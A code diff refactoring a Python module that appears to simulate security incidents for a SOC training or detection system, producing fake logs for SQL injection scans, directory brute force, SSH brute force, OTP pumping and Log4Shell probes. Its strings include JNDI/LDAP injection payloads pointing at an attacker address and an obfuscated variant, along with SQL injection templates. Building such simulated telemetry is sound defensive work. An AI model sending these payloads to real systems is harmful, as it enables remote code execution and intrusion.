@@ -1,53 +1,16 @@
-"""Incidents: what goes wrong, or is done on purpose, with the truth about it."""
+"""Loud incidents that rules know: what goes wrong, or is done on purpose, within minutes."""
 
 from __future__ import annotations
 
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import Callable
 from random import Random
 from urllib.parse import quote
 
 from soc.simulator import lgsp, otp, portal, servers
-from soc.simulator.line import Line, as_json, iso
+from soc.simulator.episode import Effect, Episode, Scene, episode, times
+from soc.simulator.faults import lose
+from soc.simulator.line import Entry
 from soc.simulator.people import CARRIERS, Citizen, attacker_address, citizen, identity, officers, phone
-
-
-@dataclass(frozen=True, slots=True)
-class Incident:
-    """The truth about one incident. `start` and `end` in ms; `who` names what it is about by ECS field names."""
-
-    kind: str
-    start: int
-    end: int
-    stream: str
-    who: dict[str, str]
-
-    def as_json(self) -> str:
-        return as_json(
-            {"kind": self.kind, "start": iso(self.start), "end": iso(self.end), "stream": self.stream, **self.who}
-        )
-
-
-@dataclass(frozen=True, slots=True)
-class Episode:
-    """An incident with the lines that it adds and the outage that it means for ordinary traffic."""
-
-    incident: Incident
-    lines: list[Line]
-    outage: otp.Outage | None = None
-
-
-def _episode(kind: str, lines: list[Line], **who: str) -> Episode:
-    stream = lines[0].stream
-    named = {name.replace("__", "."): value for name, value in who.items()}
-    return Episode(Incident(kind, lines[0].at, max(line.at for line in lines), stream, named), lines)
-
-
-def _times(at: int, rng: Random, count: int, every_ms: int) -> Iterator[int]:
-    for _ in range(count):
-        yield at
-        at += max(1, int(rng.uniform(0.5, 1.5) * every_ms))
-
 
 _SQL = (
     "1 AND {a}={a}",
@@ -62,10 +25,10 @@ _SQL = (
 )
 
 
-def sqli_scan(at: int, rng: Random) -> Episode:
+def sqli_scan(at: int, rng: Random, _scene: Scene) -> Episode:
     address, agent = attacker_address(rng), portal.attack_agent(rng)
     lines = []
-    for i, when in enumerate(_times(at, rng, 160, 350)):
+    for i, when in enumerate(times(at, rng, 160, 350)):
         payload = rng.choice(_SQL).format(a=rng.randrange(1000, 9999), b=rng.randrange(1000, 9999), n=i % 12 + 1)
         status = 500 if rng.random() < 0.2 else 200
         lines.append(
@@ -78,75 +41,73 @@ def sqli_scan(at: int, rng: Random) -> Episode:
                 rng.randrange(500, 20_000),
             )
         )
-    return _episode("sqli_scan", lines, source__ip=address)
+    return episode("sqli_scan", lines, source__ip=address)
 
 
-def directory_brute_force(at: int, rng: Random) -> Episode:
+def directory_brute_force(at: int, rng: Random, _scene: Scene) -> Episode:
     address = attacker_address(rng)
     words = "admin backup test old config api upload files data tmp private secret portal console manager db".split()
     lines = []
-    for i, when in enumerate(_times(at, rng, 500, 60)):
+    for i, when in enumerate(times(at, rng, 500, 60)):
         target = f"/{rng.choice(words)}{i}{rng.choice(('', '/', '.php', '.zip', '.bak'))}"
         lines.append(
             portal.request(when, address, "Fuzz Faster U Fool v2.1.0-dev", target, 403 if i % 97 == 0 else 404, 548)
         )
-    return _episode("directory_brute_force", lines, source__ip=address)
+    return episode("directory_brute_force", lines, source__ip=address)
 
 
-def log4shell_probe(at: int, rng: Random) -> Episode:
+def log4shell_probe(at: int, rng: Random, _scene: Scene) -> Episode:
     address, agent = attacker_address(rng), portal.attack_agent(rng)
     bait = f"${{jndi:ldap://{attacker_address(rng)}:1389/a}}"
     hidden = "${${lower:j}ndi:${lower:l}dap://x.example/a}"
     lines = []
-    for i, when in enumerate(_times(at, rng, 24, 1_500)):
+    for i, when in enumerate(times(at, rng, 24, 1_500)):
         if i % 3 == 0:
             lines.append(portal.request(when, address, rng.choice((bait, hidden)), "/", 200, 5_120))
         else:
             lines.append(portal.request(when, address, agent, f"/tim-kiem?tu-khoa={quote(bait, safe='')}", 200, 9_000))
-    return _episode("log4shell_probe", lines, source__ip=address)
+    return episode("log4shell_probe", lines, source__ip=address)
 
 
-def ssh_brute_force(at: int, rng: Random) -> Episode:
+def ssh_brute_force(at: int, rng: Random, _scene: Scene) -> Episode:
     address, host = attacker_address(rng), rng.choice(servers.HOSTS)
     names = ("root", "admin", "oracle", "postgres", "test", "ubuntu", "git", "ftp", "backup", "user", "deploy")
     lines = []
-    for when in _times(at, rng, 90, 1_200):
+    for when in times(at, rng, 90, 1_200):
         name, port = rng.choice(names), rng.randrange(30_000, 60_000)
         tag, unknown = f"sshd[{rng.randrange(1000, 60_000)}]", "" if name in ("root", "postgres") else "invalid user "
         if unknown:
             lines.append(servers.message(when, host, tag, f"Invalid user {name} from {address} port {port}"))
-        lines.append(
-            servers.message(when, host, tag, f"Failed password for {unknown}{name} from {address} port {port} ssh2")
-        )
-    return _episode("ssh_brute_force", lines, source__ip=address)
+        lines.append(servers.login(when, host, tag, unknown + name, address, port))
+    return episode("ssh_brute_force", lines, source__ip=address)
 
 
-def otp_pumping(at: int, rng: Random) -> Episode:
+def otp_pumping(at: int, rng: Random, _scene: Scene) -> Episode:
     address, prefix = attacker_address(rng), phone(rng, "vietnamobile")[:6]
-    lines: list[Line] = []
-    for i, when in enumerate(_times(at, rng, 240, 700)):
+    lines: list[Entry] = []
+    for i, when in enumerate(times(at, rng, 240, 700)):
         who = Citizen(f"{prefix}{i:04d}", "vietnamobile", identity(rng), address, "okhttp/4.12.0")
-        lines += [line for line in otp.attempt(when, rng, who) if '"event":"verify"' not in line.text]
-    return _episode("otp_pumping", lines, source__ip=address)
+        lines += [entry for entry in otp.attempt(when, rng, who) if entry.fields["event"] != "verify"]
+    return episode("otp_pumping", lines, source__ip=address)
 
 
-def otp_carrier_outage(at: int, rng: Random) -> Episode:
+def otp_carrier_outage(at: int, rng: Random, _scene: Scene) -> Episode:
     """Nothing arrives at one carrier: its citizens try again and again."""
     carrier = rng.choice([name for name, (share, _) in CARRIERS.items() if share > 0.1])
-    end = at + 300_000
-    outage, lines = (carrier, at, end), []
-    for when in _times(at, rng, 110, 2_500):
+    end, lines = at + 300_000, []
+    for when in times(at, rng, 110, 2_500):
         who = citizen(rng, carrier)
         for number in (1, 2):
-            lines += otp.attempt(when + 45_000 * (number - 1), rng, who, [(carrier, at, end + 120_000)], number)
-    episode = _episode("otp_carrier_outage", lines, govsoc__otp__carrier=carrier)
-    return Episode(episode.incident, lines, outage)
+            tried = otp.attempt(when + 45_000 * (number - 1), rng, who, number)
+            lines += lose(tried, rng, carrier, at, end + 120_000)
+    effect = Effect(at, end, frozenset({"otp.gateway"}), lambda entries: lose(entries, rng, carrier, at, end))
+    return episode("otp_carrier_outage", lines, "otp.delivery_ratio", effect=effect, govsoc__otp__carrier=carrier)
 
 
-def otp_code_leak(at: int, rng: Random) -> Episode:
+def otp_code_leak(at: int, rng: Random, _scene: Scene) -> Episode:
     """A release logs the text of the messages."""
     lines = []
-    for when in _times(at, rng, 12, 4_000):
+    for when in times(at, rng, 12, 4_000):
         who, code = citizen(rng), rng.randrange(10**6)
         text = f"Ma OTP cua ban la {code:06d}. Hieu luc 3 phut. Khong chia se ma nay cho bat ky ai."
         lines.append(
@@ -161,16 +122,16 @@ def otp_code_leak(at: int, rng: Random) -> Episode:
                 message=text,
             )
         )
-    return _episode("otp_code_leak", lines)
+    return episode("otp_code_leak", lines)
 
 
-def lgsp_provider_timeout(at: int, rng: Random) -> Episode:
+def lgsp_provider_timeout(at: int, rng: Random, _scene: Scene) -> Episode:
     service = rng.choice([service for service in lgsp.SERVICES if service.about_citizen])
-    lines = [lgsp.call(when, rng, service, "CU-DVC", 504, subject=identity(rng)) for when in _times(at, rng, 70, 2_200)]
-    return _episode("lgsp_provider_timeout", lines, govsoc__lgsp__provider=service.provider)
+    lines = [lgsp.call(when, rng, service, "CU-DVC", 504, subject=identity(rng)) for when in times(at, rng, 70, 2_200)]
+    return episode("lgsp_provider_timeout", lines, govsoc__lgsp__provider=service.provider)
 
 
-def lgsp_token_misuse(at: int, rng: Random) -> Episode:
+def lgsp_token_misuse(at: int, rng: Random, _scene: Scene) -> Episode:
     address = f"10.33.{rng.randrange(104)}.{rng.randrange(100, 250)}"
     refused: dict[str, object] = {
         "fault_code": "900901",
@@ -179,35 +140,26 @@ def lgsp_token_misuse(at: int, rng: Random) -> Episode:
         "backend_ms": 0,
     }
     lines = []
-    for when in _times(at, rng, 60, 900):
+    for when in times(at, rng, 60, 900):
         status, service = rng.choice(("invalid", "invalid", "missing")), rng.choice(lgsp.SERVICES)
         lines.append(lgsp.call(when, rng, service, "", 401, client_ip=address, token_status=status, **refused))
-    return _episode("lgsp_token_misuse", lines, source__ip=address)
+    return episode("lgsp_token_misuse", lines, source__ip=address)
 
 
-def lgsp_mass_lookup(at: int, rng: Random) -> Episode:
+def lgsp_mass_lookup(at: int, rng: Random, _scene: Scene) -> Episode:
     officer = officers(rng, 1)[0]
     lines = [
         lgsp.call(when, rng, lgsp.SERVICES[0], "CU-MOTCUA", subject=identity(rng), user=officer.name)
-        for when in _times(at, rng, 140, 1_600)
+        for when in times(at, rng, 140, 1_600)
     ]
-    return _episode("lgsp_mass_lookup", lines, user__id=officer.name)
+    return episode("lgsp_mass_lookup", lines, user__id=officer.name)
 
 
 # Kind -> what makes it. The first ones are seen at once, so a demonstration begins with them.
-INCIDENTS: dict[str, Callable[[int, Random], Episode]] = {
+INCIDENTS: dict[str, Callable[[int, Random, Scene], Episode]] = {
     make.__name__: make
     for make in (
         sqli_scan, otp_code_leak, ssh_brute_force, log4shell_probe, lgsp_token_misuse, otp_pumping, directory_brute_force,
         lgsp_provider_timeout, otp_carrier_outage, lgsp_mass_lookup,
     )
 }  # fmt: skip
-
-
-def schedule(start: int, first_after_ms: int, every_ms: int) -> Iterator[tuple[int, str]]:
-    """When which kind of incident begins, without end: each kind in turn."""
-    at = start + first_after_ms
-    while True:
-        for kind in INCIDENTS:
-            yield at, kind
-            at += every_ms
